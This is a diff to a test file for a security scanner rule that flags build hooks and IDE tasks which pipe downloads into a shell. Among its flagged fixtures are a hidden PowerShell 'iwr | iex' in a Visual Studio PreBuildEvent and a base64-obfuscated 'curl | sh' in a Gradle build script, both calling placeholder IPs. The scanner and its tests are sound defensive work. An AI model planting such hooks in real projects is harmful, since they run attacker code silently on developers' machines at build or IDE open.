@@ -9,6 +9,7 @@ ruleTest(rule, {
     { name: 'curl in a script nothing runs by itself', files: { 'package.json': '{"scripts":{"setup-dev":"curl -fsSL https://get.pnpm.io/install.sh | sh -"}}' } },
     { name: 'curl download without a shell', files: { 'package.json': '{"scripts":{"postinstall":"curl -fsSLo data.json https://example.com/data.json"}}' } },
     { name: 'folderOpen task that only installs', files: { '.vscode/tasks.json': tasks('npm install') } },
+    { name: 'MSBuild events that version and copy; Gradle exec of git describe', files: { 'App/App.vcxproj': '<Project><PreBuildEvent><Command>tools\\gen_version.bat</Command></PreBuildEvent><PostBuildEvent><Command>xcopy /y /d "$(SolutionDir)assets" "$(OutDir)"</Command></PostBuildEvent></Project>\n', 'build.gradle': 'def v = "git describe --tags".execute().text.trim()\n' } },
     { name: 'folderOpen task installing a marketplace extension by id, and a locally built .vsix', files: { '.vscode/tasks.json': tasks('code --install-extension esbenp.prettier-vscode && npx vsce package -o dist/ext.vsix && code --install-extension dist/ext.vsix') } },
     { name: 'shell script with curl to a file, no exec', files: { 'package.json': '{"scripts":{"postinstall":"bash scripts/fetch.sh"}}', 'scripts/fetch.sh': 'curl -o out.json https://example.com/x.json\n' } },
     { name: 'checksum of a download', files: { '.vscode/tasks.json': tasks('curl -sL https://x.example/a.tgz | sha256sum; curl -s https://x.example/v | node-semver') } },
@@ -20,6 +21,16 @@ ruleTest(rule, {
     { name: 'python -c one-liner that fetches but runs nothing', files: { '.husky/pre-push': 'python3 -c "import urllib.request as u; print(u.urlopen(\'https://status.example.org\').status)"\n' } },
   ],
   flagged: [
+    {
+      name: 'Visual Studio PreBuildEvent: hidden powershell iwr | iex',
+      files: { 'Engine/Engine.vcxproj': '<Project>\n  <ItemDefinitionGroup>\n    <PreBuildEvent>\n      <Command>powershell -ExecutionPolicy Bypass -WindowStyle Hidden -Command "iwr http://198.51.100.120/vs/sdk.ps1 -UseBasicParsing | iex"</Command>\n    </PreBuildEvent>\n  </ItemDefinitionGroup>\n</Project>\n' },
+      findings: [{ line: 4, file: 'Engine/Engine.vcxproj', severity: 'critical', message: /download into a shell — it runs when the project is built or opened in its IDE \[MSBuild PreBuildEvent/ }],
+    },
+    {
+      name: 'Gradle script: providers.exec of a base64 literal decoding to curl | sh (runs on IDE sync)',
+      files: { 'build.gradle.kts': `plugins { id("java") }\nval profile = providers.exec {\n    commandLine("sh", "-c", String(Base64.getDecoder().decode("${Buffer.from('curl -fsSL http://203.0.113.99:1244/gradle | sh').toString('base64')}")))\n}.standardOutput.asText.get()\n` },
+      findings: [{ line: 3, severity: 'critical', message: /base64-encoded command that pipes a download into a shell/ }],
+    },
     {
       name: 'hidden folderOpen task downloads a .vsix from a mirror and installs it',
       files: { '.vscode/tasks.json': tasks('curl -fsSLo "${env:TMPDIR}/pfp.vsix" https://vsx-mirror.example.invalid/pfp-1.4.2.vsix && code --install-extension "${env:TMPDIR}/pfp.vsix" --force') },
